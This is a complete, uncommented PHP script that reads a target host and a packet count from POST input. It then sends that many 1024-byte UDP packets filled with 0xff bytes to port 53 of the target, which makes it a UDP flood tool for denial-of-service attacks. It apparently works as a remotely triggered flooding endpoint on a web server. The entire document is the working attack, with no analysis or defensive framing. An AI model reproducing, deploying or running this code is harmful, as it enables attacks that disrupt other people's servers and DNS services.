<?php
$t = $_POST['target'];
for ($i = 0; $i < $_POST['packets']; $i++) {
    $f = fsockopen('udp://' . $t, 53);
    fwrite($f, str_repeat("\xff", 1024));
    fclose($f);
}
